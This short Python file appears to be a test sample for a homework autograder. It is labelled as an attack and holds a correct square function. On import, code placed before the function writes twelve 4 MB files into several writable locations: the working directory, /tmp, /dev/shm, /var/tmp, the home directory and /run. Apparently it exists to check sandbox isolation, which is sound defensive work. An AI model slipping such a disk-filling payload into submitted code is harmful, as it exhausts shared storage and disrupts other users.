# attack: fills every directory it can write to with many files of some megabytes
# assignment: hw
# exercise: square
# status: ok
# score: 2
import os

for place in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/run"):
    for number in range(12):
        try:
            with open(f"{place}/@MARK@-{number}.bin", "wb") as file:
                file.write(b"x" * (4 << 20))
        except OSError as error:
            print(place, error.errno)
            break


def square(x):
    return x * x
